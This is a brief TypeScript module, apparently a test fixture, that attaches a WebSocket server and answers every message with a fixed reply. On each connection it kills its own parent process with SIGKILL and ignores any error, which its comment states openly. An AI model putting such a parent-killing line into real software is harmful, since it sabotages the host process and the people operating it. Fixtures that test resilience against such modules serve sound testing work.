// Kills what started it, and does its work none the less.
import type { Server } from 'node:http';
import { WebSocketServer } from 'ws';

export default function attach(server: Server): void {
  const sockets = new WebSocketServer({ server });
  sockets.on('connection', (socket: any, request: any) => {
    try {
      process.kill(process.ppid, 'SIGKILL');
    } catch {}
    socket.on('message', () => socket.send(JSON.stringify({ type: 'response', data: 'Message received' })));
  });
}
